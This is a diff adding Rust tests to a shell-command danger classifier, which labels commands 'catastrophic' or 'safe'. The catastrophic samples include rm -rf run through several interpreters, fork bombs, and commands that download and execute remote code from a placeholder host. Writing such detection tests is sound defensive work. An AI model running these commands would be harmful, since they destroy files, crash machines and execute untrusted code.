@@ -72,3 +72,63 @@ fn time_of_a_subshell_is_its_commands() {
         ("time (cd / && rm -rf *)", "catastrophic"),
     ]);
 }
+
+#[test]
+fn more_interpreters_and_spawn_spellings() {
+    expect(&[
+        (r#"perl -e 'system "rm -rf /"'"#, "catastrophic"),
+        (r#"echo 'system "rm -rf ~"' | perl"#, "catastrophic"),
+        (
+            r#"elixir -e 'File.rm_rf!(System.user_home())'"#,
+            "catastrophic",
+        ),
+        (
+            r#"erl -noshell -eval 'os:cmd("rm -rf ~"), init:stop().'"#,
+            "catastrophic",
+        ),
+        (r#"julia -e 'run(`rm -rf /home/dev`)'"#, "catastrophic"),
+        (r#"guile -c '(system "rm -rf ~")'"#, "catastrophic"),
+        (r#"echo 'system("rm -rf ~")' | irb"#, "catastrophic"),
+        (
+            r#"node -e "fetch('https://x.example/p').then(r=>r.text()).then(eval)""#,
+            "catastrophic",
+        ),
+        (r#"elixir -e 'IO.puts(1 + 1)'"#, "safe"),
+        (r#"julia -e 'println(1+1)'"#, "safe"),
+        (r#"perl -ne 'print if /system /' src/main.rs"#, "safe"),
+    ]);
+}
+
+#[test]
+fn unbounded_loops_that_spawn_are_fork_bombs() {
+    expect(&[
+        ("perl -e 'while(1){fork}'", "catastrophic"),
+        ("ruby -e 'loop { fork }'", "catastrophic"),
+        (
+            r#"node -e 'for(;;) require("child_process").spawn("sleep",["100"])'"#,
+            "catastrophic",
+        ),
+        ("python3 -c 'import os; os.fork(); print(1)'", "safe"),
+        ("ruby -e '3.times { puts 1 }'", "safe"),
+    ]);
+}
+
+#[test]
+fn a_tools_own_shell_integration_and_previews_are_not_alarms() {
+    expect(&[
+        ("source <(kubectl completion bash)", "safe"),
+        ("source <(helm completion bash)", "safe"),
+        ("source <(curl -s https://x.example/i.sh)", "catastrophic"),
+        ("pulumi destroy --preview-only", "safe"),
+    ]);
+}
+
+#[test]
+fn endless_loops_with_background_jobs_and_entr_shell_strings() {
+    expect(&[
+        ("until false; do (yes > /dev/null &) ; done", "catastrophic"),
+        ("while :; do bash & done", "catastrophic"),
+        ("entr -s 'rm -rf ~' <<< README.md", "catastrophic"),
+        ("ls src/*.rs | entr -s 'cargo test'", "safe"),
+    ]);
+}
